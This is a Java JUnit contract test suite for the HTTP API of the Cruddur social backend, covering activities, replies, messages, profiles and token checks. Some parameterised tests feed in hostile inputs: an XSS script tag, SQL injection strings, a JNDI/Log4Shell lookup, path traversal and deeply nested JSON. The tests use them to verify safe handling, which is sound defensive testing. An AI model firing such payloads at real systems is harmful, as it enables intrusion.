package io.cruddur.backend;

import static org.assertj.core.api.Assertions.assertThat;

import io.cruddur.backend.support.Client;
import io.cruddur.backend.support.Client.Reply;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.OffsetDateTime;
import java.util.List;
import java.util.Locale;
import java.util.UUID;
import java.util.stream.IntStream;
import java.util.stream.StreamSupport;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * What a front end may rely on, row by row, over HTTP. Whoever inherits it says on which stores. The rows share the stores
 * and come in any order: each looks only at what it has made itself.
 */
abstract class HttpContract {
    private static final String[] ACTIVITY = {
        "uuid",
        "display_name",
        "handle",
        "message",
        "replies_count",
        "reposts_count",
        "likes_count",
        "reply_to_activity_uuid",
        "created_at",
        "expires_at"
    };
    private static final String[] MESSAGE = {"uuid", "display_name", "handle", "message", "created_at"};
    private static final String UNKNOWN = "00000000-0000-4000-8000-000000000000";

    private final Client backend;

    HttpContract(int port) {
        this.backend = new Client(port);
    }

    @Test
    void healthCheck() {
        Reply reply = backend.get("/api/health-check");

        assertThat(reply.status()).isEqualTo(200);
        assertThat(reply.body()).isEqualTo("{\"success\":true,\"ver\":1}");
        assertThat(reply.traceId()).isEmpty();
    }

    @Test
    void homeIsThereForAllNewestFirst() {
        String first = crud("andrewbrown", unique("home"));
        String second = crud("bayko", unique("home"));

        List<JsonNode> activities = list(ok(backend.get("/api/activities/home")));

        assertThat(activities)
                .extracting(activity -> activity.path("uuid").asString())
                .containsSubsequence(second, first);
        assertThat(activities)
                .allSatisfy(activity -> assertThat(activity.propertyNames()).containsExactlyInAnyOrder(ACTIVITY));
        assertThat(activities)
                .extracting(activity ->
                        OffsetDateTime.parse(activity.path("created_at").asString()))
                .isSortedAccordingTo((a, b) -> b.compareTo(a));
    }

    @ParameterizedTest
    @ValueSource(strings = {"Bearer", "Bearer !", "Bearer a.b.c", "Basic bm9ib2R5", "nonsense"})
    void homeTakesABadTokenForNone(String header) {
        Reply reply = backend.get("/api/activities/home", "Authorization", header);

        assertThat(list(ok(reply))).isNotEmpty();
    }

    @Test
    void homeTakesAToken() {
        assertThat(list(ok(backend.get("/api/activities/home", backend.as("londo")))))
                .isNotEmpty();
    }

    @Test
    void notificationsHaveReplies() {
        List<JsonNode> activities = list(ok(backend.get("/api/activities/notifications")));

        assertThat(activities).isNotEmpty();
        assertThat(activities.get(0).path("replies").path(0).path("handle").asString())
                .isEqualTo("bayko");
    }

    @Test
    void searchFindsTextAndNoPattern() {
        String word = unique("50%_Off\\");
        String uuid = crud("andrewbrown", "now " + word + "!");

        assertThat(list(ok(backend.get("/api/activities/search?term=" + encoded(word.toUpperCase(Locale.ROOT))))))
                .singleElement()
                .satisfies(found -> assertThat(found.path("uuid").asString()).isEqualTo(uuid));
        assertThat(list(ok(backend.get("/api/activities/search?term=" + encoded(word.replace('5', '_'))))))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"/api/activities/search", "/api/activities/search?term=", "/api/activities/search?term=%20"})
    void searchWantsATerm(String path) {
        is(422, "[\"search_term_blank\"]", backend.get(path));
    }

    @Test
    void aPersonHasAProfileAndActivities() {
        String uuid = crud("altbrown", unique("mine"));

        JsonNode page = ok(backend.get("/api/activities/@altbrown"));

        assertThat(page.path("profile").propertyNames())
                .containsExactlyInAnyOrder("uuid", "cognito_user_uuid", "handle", "display_name", "bio", "cruds_count");
        assertThat(page.at("/profile/handle").asString()).isEqualTo("altbrown");
        assertThat(page.at("/profile/cruds_count").asInt())
                .isEqualTo(page.path("activities").size());
        assertThat(list(page.path("activities")))
                .allSatisfy(activity ->
                        assertThat(activity.path("handle").asString()).isEqualTo("altbrown"));
        assertThat(page.at("/activities/0/uuid").asString()).isEqualTo(uuid);
    }

    @Test
    void aPersonsPageHasAtMostFortyActivities() {
        String[] token = backend.as("londo");
        IntStream.range(0, 41).forEach(i -> crud(unique("many"), token));

        assertThat(ok(backend.get("/api/activities/@londo")).path("activities")).hasSize(40);
    }

    @ParameterizedTest
    @ValueSource(strings = {"/api/activities/@", "/api/activities/@%20"})
    void aPersonNeedsAHandle(String path) {
        is(422, "[\"blank_user_handle\"]", backend.get(path));
    }

    @ParameterizedTest
    @ValueSource(strings = {"nobody", "%3Cscript%3E", "'%20OR%20'1'='1", "..", "%F0%9F%A6%8A"})
    void anUnknownHandleIsAnEmptyAnswer(String handle) {
        is(200, "{}", backend.get("/api/activities/@" + handle));
        is(200, "{}", backend.get("/api/users/@" + handle + "/short"));
    }

    @Test
    void anActivityIsShownWithItsRepliesOldestFirst() {
        String uuid = crud("andrewbrown", unique("asked"));
        String first = reply("bayko", uuid, "first");
        String second = reply("londo", uuid, "second");

        JsonNode shown = ok(backend.get("/api/activities/@andrewbrown/status/" + uuid));

        assertThat(shown.propertyNames()).containsExactlyInAnyOrder("activity", "replies");
        assertThat(shown.at("/activity/uuid").asString()).isEqualTo(uuid);
        assertThat(shown.at("/activity/replies_count").asInt()).isEqualTo(2);
        assertThat(list(shown.path("replies")))
                .extracting(reply -> reply.path("uuid").asString())
                .containsExactly(first, second);
        assertThat(ok(backend.get("/api/activities/" + uuid))).isEqualTo(shown);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/api/activities/@andrewbrown/status/" + UNKNOWN,
                "/api/activities/@andrewbrown/status/not-a-uuid",
                "/api/activities/" + UNKNOWN,
                "/api/activities/1",
                "/api/activities/1-1-1-1-1",
                "/api/activities/00000000-0000-4000-8000-000000000000%27%20OR%201=1"
            })
    void anActivityThatIsNotThereIsNotFound(String path) {
        is(404, "{}", backend.get(path));
    }

    @Test
    void anActivityIsOfItsAuthor() {
        is(404, "{}", backend.get("/api/activities/@bayko/status/" + crud("andrewbrown", unique("whose"))));
    }

    @ParameterizedTest
    @CsvSource({
        "30-days, PT720H",
        "7-days, PT168H",
        "3-days, PT72H",
        "1-day, PT24H",
        "12-hours, PT12H",
        "3-hours, PT3H",
        "1-hour, PT1H"
    })
    void anActivityLivesAsLongAsItsTtl(String ttl, Duration life) {
        String message = unique("lives");
        JsonNode created = ok(post(
                "/api/activities", "{\"message\": \"%s\", \"ttl\": \"%s\"}".formatted(message, ttl), "andrewbrown"));

        assertThat(created.propertyNames()).containsExactlyInAnyOrder(ACTIVITY);
        assertThat(created.path("message").asString()).isEqualTo(message);
        assertThat(created.path("handle").asString()).isEqualTo("andrewbrown");
        assertThat(created.path("display_name").asString()).isEqualTo("Andrew Brown");
        // Two clocks: the application's and the database's.
        assertThat(Duration.between(
                                OffsetDateTime.parse(created.path("created_at").asString()),
                                OffsetDateTime.parse(created.path("expires_at").asString()))
                        .minus(life)
                        .abs())
                .isLessThan(Duration.ofMinutes(1));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "{'message': 'x'}                          | ['ttl_blank']",
                "{'message': 'x', 'ttl': null}             | ['ttl_blank']",
                "{'message': 'x', 'ttl': '2-days'}         | ['ttl_blank']",
                "{'ttl': '1-day'}                          | ['message_blank']",
                "{'message': ' \\n', 'ttl': '1-day'}       | ['message_blank']",
                "{}                                        | ['ttl_blank','message_blank']"
            })
    void anActivityNeedsATtlAndAMessage(String body, String problems) {
        is(422, quoted(problems), post("/api/activities", quoted(body), "andrewbrown"));
    }

    @Test
    void anActivityHasAtMost280Characters() {
        // Characters as people count them: an emoji is one, and two chars of Java.
        String longest = "\uD83E\uDD8A".repeat(280);
        JsonNode created =
                ok(post("/api/activities", "{\"message\": \"" + longest + "\", \"ttl\": \"1-hour\"}", "andrewbrown"));
        assertThat(created.path("message").asString()).isEqualTo(longest);

        is(
                422,
                "[\"message_exceed_max_chars\"]",
                post("/api/activities", "{\"message\": \"" + longest + "x\", \"ttl\": \"1-hour\"}", "andrewbrown"));
    }

    @Test
    void aReplyAnswersAnActivityAndExpiresWithIt() {
        String uuid = crud("andrewbrown", unique("asked"));

        JsonNode reply = ok(post("/api/activities/" + uuid + "/reply", "{\"message\": \"yes\"}", "bayko"));

        assertThat(reply.propertyNames()).containsExactlyInAnyOrder(ACTIVITY);
        assertThat(reply.path("reply_to_activity_uuid").asString()).isEqualTo(uuid);
        assertThat(reply.path("handle").asString()).isEqualTo("bayko");
        assertThat(reply.path("expires_at").asString())
                .isEqualTo(ok(backend.get("/api/activities/" + uuid))
                        .at("/activity/expires_at")
                        .asString());
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                UNKNOWN + " | {}                | 422 | ['message_blank']",
                UNKNOWN + " | {'message': '  '} | 422 | ['message_blank']",
                "%20        | {'message': 'x'}  | 422 | ['activity_uuid_blank']",
                UNKNOWN + " | {'message': 'x'}  | 404 | {}",
                "1          | {'message': 'x'}  | 404 | {}"
            })
    void aReplyNeedsAMessageAndAnActivity(String uuid, String body, int status, String answer) {
        is(status, quoted(answer), post("/api/activities/" + uuid + "/reply", quoted(body), "bayko"));
    }

    @Test
    void aReplyHasAtMost1024Characters() {
        String uuid = crud("andrewbrown", unique("asked"));
        String path = "/api/activities/" + uuid + "/reply";

        assertThat(ok(post(path, "{\"message\": \"" + "x".repeat(1_024) + "\"}", "bayko"))
                        .path("message")
                        .asString())
                .hasSize(1_024);
        is(
                422,
                "[\"message_exceed_max_chars_1024\"]",
                post(path, "{\"message\": \"" + "x".repeat(1_025) + "\"}", "bayko"));
    }

    @Test
    void aConversationIsReadByItsTwoMembersAndNobodyElse() {
        String group = conversation("andrewbrown", "bayko", "hello");
        JsonNode sent = ok(post("/api/messages", message(group, "hello back"), "bayko"));

        assertThat(sent.propertyNames()).containsExactlyInAnyOrder(MESSAGE);
        for (String member : List.of("andrewbrown", "bayko")) {
            List<JsonNode> messages = list(ok(backend.get("/api/messages/" + group, backend.as(member))));
            assertThat(messages)
                    .extracting(message -> message.path("message").asString())
                    .containsExactly("hello", "hello back");
            assertThat(messages)
                    .extracting(message -> message.path("handle").asString())
                    .containsExactly("andrewbrown", "bayko");
            assertThat(messages.get(1)).isEqualTo(sent);
        }
        is(404, "{}", backend.get("/api/messages/" + group, backend.as("londo")));
        is(404, "{}", post("/api/messages", message(group, "may I?"), "londo"));
    }

    @Test
    void conversationsAreListedNewestFirstWithTheOtherMemberAndTheLastMessage() {
        String[] altbrown = backend.as("altbrown");
        String first = conversation("altbrown", "bayko", "one");
        String second = conversation("andrewbrown", "altbrown", "two");
        ok(post("/api/messages", message(first, "three"), "bayko"));

        List<JsonNode> groups = list(ok(backend.get("/api/message_groups", altbrown)));

        assertThat(groups.get(0).propertyNames()).containsExactlyInAnyOrder(MESSAGE);
        assertThat(groups).extracting(group -> group.path("uuid").asString()).startsWith(first, second);
        assertThat(groups).extracting(group -> group.path("handle").asString()).startsWith("bayko", "andrewbrown");
        assertThat(groups).extracting(group -> group.path("message").asString()).startsWith("three", "two");
        assertThat(groups)
                .extracting(group -> group.path("uuid").asString())
                .as("each once")
                .doesNotHaveDuplicates();
    }

    @Test
    void atMostTwentyConversationsAreListed() {
        String[] token = backend.as("londo");
        for (int i = 0; i < 21; i++) {
            ok(backend.post("/api/messages", "{\"message\": \"x\", \"handle\": \"bayko\"}", token));
        }

        assertThat(list(ok(backend.get("/api/message_groups", token)))).hasSize(20);
    }

    @Test
    void messagesThatCrossAllArrive() {
        String group = conversation("andrewbrown", "bayko", "0");
        String[] one = backend.as("andrewbrown");
        String[] other = backend.as("bayko");

        List<Integer> statuses = IntStream.range(0, 20)
                .parallel()
                .mapToObj(i -> backend.post("/api/messages", message(group, "m" + i), i % 2 == 0 ? one : other)
                        .status())
                .toList();

        assertThat(statuses).containsOnly(200);
        assertThat(list(ok(backend.get("/api/messages/" + group, one)))).hasSize(21);
        assertThat(list(ok(backend.get("/api/message_groups", other))))
                .extracting(row -> row.path("uuid").asString())
                .containsOnlyOnce(group);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "{'handle': 'bayko'}                              | 422 | ['message_blank']",
                "{'message': ' ', 'handle': 'bayko'}              | 422 | ['message_blank']",
                "{'message': 'x'}                                 | 422 | ['user_reciever_handle_blank']",
                "{'message': 'x', 'handle': ' '}                  | 422 | ['user_reciever_handle_blank']",
                "{'message': 'x', 'handle': 'andrewbrown'}        | 422 | ['user_reciever_handle_blank']",
                "{'message': 'x', 'handle': 'nobody'}             | 404 | {}",
                "{'message': 'x', 'message_group_uuid': ''}       | 422 | ['message_group_uuid_blank']",
                "{'message_group_uuid': ' '}                      | 422 | ['message_blank','message_group_uuid_blank']",
                "{'message': 'x', 'message_group_uuid': 'a'}      | 404 | {}",
                "{'message': 'x', 'message_group_uuid': '" + UNKNOWN + "'} | 404 | {}",
            })
    void aMessageNeedsATextAndSomebody(String body, int status, String answer) {
        is(status, quoted(answer), post("/api/messages", quoted(body), "andrewbrown"));
    }

    @Test
    void aMessageHasAtMost1024Characters() {
        String group = conversation("andrewbrown", "bayko", "x".repeat(1_024));

        is(
                422,
                "[\"message_exceed_max_chars_1024\"]",
                post("/api/messages", message(group, "x".repeat(1_025)), "bayko"));
    }

    @ParameterizedTest
    @ValueSource(strings = {UNKNOWN, "a", "%20"})
    void aConversationThatIsNotThereIsNotFound(String group) {
        is(404, "{}", backend.get("/api/messages/" + group, backend.as("andrewbrown")));
    }

    @Test
    void aUserInShort() {
        JsonNode user = ok(backend.get("/api/users/@bayko/short"));

        assertThat(user.propertyNames()).containsExactlyInAnyOrder("uuid", "handle", "display_name");
        assertThat(user.path("display_name").asString()).isEqualTo("Andrew Bayko");
    }

    @Test
    void aProfileIsUpdated() {
        JsonNode before = ok(backend.get("/api/users/@londo/short"));
        String bio = unique("<b>Ambassador</b> '); DROP TABLE users; --");

        JsonNode user = ok(post(
                "/api/profile/update", "{\"bio\": \"" + bio + "\", \"display_name\": \"Londo Mollari\"}", "londo"));

        assertThat(user).isEqualTo(before);
        assertThat(ok(backend.get("/api/activities/@londo")).at("/profile/bio").asString())
                .isEqualTo(bio);
    }

    @ParameterizedTest
    @ValueSource(strings = {"{}", "{'bio': 'x'}", "{'display_name': '  '}", "{'display_name': null}"})
    void aProfileNeedsADisplayName(String body) {
        is(422, "[\"display_name_blank\"]", post("/api/profile/update", quoted(body), "londo"));
    }

    @Test
    void aNameHasAtMost100CharactersAndABio1000() {
        String name = "\uD83E\uDD8A".repeat(100);
        String bio = "\uD83E\uDD8A".repeat(1_000);
        String[] token = backend.as("altbrown");

        assertThat(ok(profile(name, bio, token)).path("display_name").asString())
                .isEqualTo(name);
        // In the rows of a conversation as well.
        assertThat(conversation("altbrown", "bayko", "hello")).isNotEmpty();
        is(422, "[\"display_name_exceed_max_chars\"]", profile(name + "x", bio, token));
        is(422, "[\"bio_exceed_max_chars\"]", profile(name, bio + "x", token));
        is(
                422,
                "[\"display_name_exceed_max_chars\",\"bio_exceed_max_chars\"]",
                profile("x".repeat(500_000), "x".repeat(500_000), token));
        ok(profile("Alt Brown", "", token));
    }

    private Reply profile(String name, String bio, String[] token) {
        return backend.post(
                "/api/profile/update", "{\"display_name\": \"%s\", \"bio\": \"%s\"}".formatted(name, bio), token);
    }

    @Test
    void boomIsAnErrorThatTellsNothing() {
        Reply reply = backend.get("/dev/boom");

        assertThat(reply.status()).isEqualTo(500);
        assertThat(reply.body()).doesNotContain("Boom!", "Exception", "\tat ");
    }

    @Test
    void rollbarTest() {
        Reply reply = backend.get("/rollbar/test");

        is(200, "Hello World!", reply);
        assertThat(reply.contentType()).startsWith("text/plain");
    }

    @ParameterizedTest
    @CsvSource({
        "POST, /api/activities",
        "POST, /api/activities/" + UNKNOWN + "/reply",
        "GET,  /api/message_groups",
        "GET,  /api/messages/" + UNKNOWN,
        "POST, /api/messages",
        "POST, /api/profile/update"
    })
    void aTokenIsNeeded(String method, String path) throws IOException {
        String body = method.equals("POST") ? "{}" : "";
        for (String header : List.of("Bearer", "Bearer a.b.c", "Basic bm9ib2R5", "Bearer ")) {
            is(
                    401,
                    "{}",
                    backend.send(method, path, body, "Authorization", header, "Content-Type", "application/json"));
        }
        is(401, "{}", backend.send(method, path, body, "Content-Type", "application/json"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{",
                "",
                "nonsense",
                "[]",
                "'x'",
                "5",
                "null",
                "{'message': {'a': 1}, 'ttl': '1-day'}",
                "{'message': ['x'], 'ttl': '1-day'}",
                "{'message': 5, 'ttl': '1-day'}",
                "{'message': 'x', 'ttl': true}"
            })
    void whatIsNotTheRightJsonIsABadRequest(String body) {
        assertThat(post("/api/activities", quoted(body), "andrewbrown").status())
                .isEqualTo(400);
    }

    @Test
    void deepJsonIsABadRequest() {
        String deep = "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000);

        assertThat(post("/api/activities", deep, "andrewbrown").status()).isEqualTo(400);
    }

    @Test
    void aMegabyteIsTooLongAndMoreIsABadRequest() {
        String megabyte = "x".repeat(1 << 20);

        is(
                422,
                "[\"message_exceed_max_chars\"]",
                post("/api/activities", "{\"message\": \"" + megabyte + "\", \"ttl\": \"1-day\"}", "andrewbrown"));
        assertThat(post("/api/activities", "{\"message\": \"" + megabyte.repeat(3) + "\"}", "andrewbrown")
                        .status())
                .isEqualTo(400);
    }

    @Test
    void unknownPathsAreNotFound() {
        for (String path : List.of("/", "/api", "/api/nothing", "/actuator", "/api/activities/a/b/c")) {
            Reply reply = backend.get(path);
            assertThat(reply.status()).as(path).isEqualTo(404);
            assertThat(reply.traceId()).as(path).isNotEmpty();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "'); DROP TABLE activities; --",
                "${jndi:ldap://example.com/a} {} %s ?",
                "\\u202Egnirts \\u0007 \\r\\n"
            })
    void whatIsSaidIsReturnedAsItIs(String json) {
        JsonNode created =
                ok(post("/api/activities", "{\"message\": \"" + json + "\", \"ttl\": \"1-hour\"}", "andrewbrown"));
        String said = JsonMapper.shared().readTree("\"" + json + "\"").asString();

        assertThat(created.path("message").asString()).isEqualTo(said);
        assertThat(ok(backend.get("/api/activities/" + created.path("uuid").asString()))
                        .at("/activity/message")
                        .asString())
                .isEqualTo(said);
    }

    @Test
    void whatCannotBeStoredIsReplaced() {
        JsonNode created =
                ok(post("/api/activities", "{\"message\": \"a\\u0000b\\uD800c\", \"ttl\": \"1-hour\"}", "andrewbrown"));

        assertThat(created.path("message").asString()).isEqualTo("a\uFFFDb\uFFFDc");
        assertThat(list(ok(backend.get("/api/activities/search?term=a%00b"))))
                .anySatisfy(found -> assertThat(found.path("uuid")).isEqualTo(created.path("uuid")));
    }

    @Test
    void aTokenIsForWhoIsThere() {
        is(404, "{}", backend.post("/dev/token", "{\"handle\": \"nobody\"}"));
        is(422, "[\"blank_user_handle\"]", backend.post("/dev/token", "{}"));
    }

    private Reply post(String path, String body, String handle) {
        return backend.post(path, body, backend.as(handle));
    }

    private String crud(String handle, String message) {
        return crud(message, backend.as(handle));
    }

    private String crud(String message, String[] token) {
        String json = JsonMapper.shared().writeValueAsString(message);
        return ok(backend.post("/api/activities", "{\"message\": " + json + ", \"ttl\": \"1-hour\"}", token))
                .path("uuid")
                .asString();
    }

    private String reply(String handle, String uuid, String message) {
        return ok(post("/api/activities/" + uuid + "/reply", "{\"message\": \"" + message + "\"}", handle))
                .path("uuid")
                .asString();
    }

    private String conversation(String from, String to, String message) {
        return ok(post("/api/messages", "{\"message\": \"%s\", \"handle\": \"%s\"}".formatted(message, to), from))
                .path("message_group_uuid")
                .asString();
    }

    private static String message(String group, String text) {
        return "{\"message\": \"%s\", \"message_group_uuid\": \"%s\"}".formatted(text, group);
    }

    private static JsonNode ok(Reply reply) {
        assertThat(reply.status()).as(reply.body()).isEqualTo(200);
        assertThat(reply.contentType()).startsWith("application/json");
        return reply.json();
    }

    private static void is(int status, String body, Reply reply) {
        assertThat(reply.status() + " " + reply.body()).isEqualTo(status + " " + body);
    }

    private static List<JsonNode> list(JsonNode array) {
        return StreamSupport.stream(array.spliterator(), false).toList();
    }

    private static String quoted(String json) {
        return json.replace('\'', '"');
    }

    private static String unique(String text) {
        return text + " " + UUID.randomUUID();
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }
}
